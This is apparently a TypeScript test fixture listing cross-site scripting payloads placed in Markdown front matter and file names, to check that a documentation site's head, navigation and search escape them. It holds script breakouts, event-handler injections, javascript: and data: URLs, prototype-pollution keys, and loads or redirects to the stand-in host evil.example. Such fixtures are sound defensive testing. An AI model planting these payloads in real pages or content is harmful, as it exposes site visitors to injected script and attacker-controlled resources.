// What stands above a page, and the name of its file: both reach the head, the menus and the search.
import type { Payload } from './payload.ts';

const image = '<img src=x onerror=alert(1)>';
const breakout = '</title></script></style></textarea><script>alert(1)</script>';

const values = [
  `title: '${image}'`,
  `title: '${breakout}'`,
  `title: '"><script>alert(1)</script>'`,
  `title: "{{ constructor }} \\u2028 \\u202e txt"`,
  `title: T\ndescription: '${breakout}'`,
  `title: T\ndescription: '" onload="alert(1)'`,
  `title: T\ndescription: "--><img src=x onerror=alert(1)><!--"`,
  `title: T\nnavigation:\n  title: '${image}'\n  description: '${breakout}'\n  group: '${image}'`,
  `title: T\nseo:\n  title: '${breakout}'\n  description: '"><img src=x onerror=alert(1)>'`,
  `title: T\nauthors:\n  - name: '${image}'`,
  `title: T\nauthors:\n  - '${image}'`,
  `title: T\nlinks:\n  - label: '${image}'\n    to: https://evil.example/"onmouseover="alert(1)`,
  `title: T\ndate: 2026-01-01\ndifficulty: beginner\n__proto__: { polluted: true }\nconstructor: { prototype: { polluted: true } }`,
  `title: T\nschemaOrg:\n  type: Article\n  name: '</script><script>alert(1)</script>'`,
  `title: T\nschemaOrg:\n  type: Article\n  name: '<!--<script>'\n  url: 'javascript:alert(1)'`,
  `title: T\nonclick: alert(1)\nstyle: 'background:url(https://evil.example/x)'\nscript: '${breakout}'`,
  `title: T\nbody: '${image}'\nhtml: '${image}'\nchildren: '${image}'`,
  'title: T\nhead:\n  script:\n    - innerHTML: alert(1)',
  'title: T\nhead:\n  script:\n    - src: https://evil.example/x.js\n      type: module',
  `title: T\nhead:\n  script:\n    - type: application/ld+json\n      innerHTML: '{"x":"</script><script>alert(1)</script>"}'`,
  'title: T\nhead:\n  meta:\n    - http-equiv: refresh\n      content: 0;url=https://evil.example/',
  'title: T\nhead:\n  meta:\n    - httpEquiv: refresh\n      content: 0;url=https://evil.example/',
  'title: T\nhead:\n  meta:\n    - HTTP-EQUIV: refresh\n      content: 0;url=javascript:alert(1)',
  'title: T\nhead:\n  meta:\n    - name: x\n      content: y\n      onload: alert(1)',
  `title: T\nhead:\n  meta:\n    - name: '"><script>alert(1)</script>'\n      content: '${breakout}'`,
  `title: T\nhead:\n  meta:\n    - name: x\n      content: y\n      '"><script>alert(1)</script>': x`,
  'title: T\nhead:\n  link:\n    - rel: stylesheet\n      href: https://evil.example/x.css',
  'title: T\nhead:\n  link:\n    - rel: "alternate StyleSheet"\n      href: https://evil.example/x.css',
  'title: T\nhead:\n  link:\n    - REL: stylesheet\n      rel: alternate\n      href: https://evil.example/x.css',
  'title: T\nhead:\n  script:\n    - TYPE: module\n      type: application/ld+json\n      innerHTML: alert(1)',
  'title: T\nhead:\n  script:\n    - TYPE: module\n      innerHTML: alert(1)',
  'title: T\nhead:\n  link:\n    - rel: modulepreload\n      href: https://evil.example/x.js',
  'title: T\nhead:\n  link:\n    - rel: alternate\n      href: javascript:alert(1)',
  'title: T\nhead:\n  link:\n    - rel: icon\n      href: /x\n      onload: alert(1)\n      onError: alert(1)',
  'title: T\nhead:\n  base:\n    href: https://evil.example/\n  noscript:\n    - innerHTML: <img src=x onerror=alert(1)>',
  'title: T\nhead:\n  style:\n    - "*{background:url(https://evil.example/x)}"\n  bodyAttrs:\n    onload: alert(1)\n  htmlAttrs:\n    onclick: alert(1)',
  `title: T\nhead:\n  title: '${breakout}'\n  titleTemplate: '%s ${image}'`,
  'title: T\nlinks:\n  - label: x\n    to: javascript:alert(1)',
  'title: T\nlinks:\n  - label: x\n    to: "java\\tscript:alert(1)"\n    icon: i-lucide-book',
  `title: T\nlinks:\n  - label: x\n    to: data:text/html,x\n    target: '_self" onclick="alert(1)'\n    onclick: alert(1)`,
  "title: T\nauthors:\n  - name: x\n    to: javascript:alert(1)\n    avatar: { src: 'javascript:alert(1)' }",
  `title: T\nicon: '"><img src=x onerror=alert(1)>'`,
  `title: T\nnavigation:\n  icon: '"><img src=x onerror=alert(1)>'`,
  `title: T\nogImage:\n  url: /x\n  alt: '${image}'\n  width: '"><script>alert(1)</script>'`,
  `title: T\nlayout: '"><script>alert(1)</script>'`,
  `title: T\ndifficulty: '${image}'`,
  'title: T\nseo:\n  canonical: javascript:alert(1)\n  ogImage: javascript:alert(1)\n  ogUrl: javascript:alert(1)',
  "title: T\npath: '/front-matter/<img src=x onerror=alert(1)>'",
  `title: T\npath: '/front-matter/"onmouseover="alert(1)'`,
];

const names = [
  '<img src=x onerror=alert(1)>.md',
  '"onmouseover="alert(1).md',
  "'-alert(1)-'.md",
  'javascript:alert(1).md',
  '{{constructor}}.md',
  '__proto__.md',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E.md',
  'a&b=c#d?e.md',
];

export const frontMatterPayloads: Payload[] = [
  ...values.map((frontMatter) => ({ family: 'front matter', frontMatter, body: 'Text.' })),
  ...names.map((file) => ({ family: 'file name', file, body: '# <b onclick=alert(1)>Named</b>' })),
];
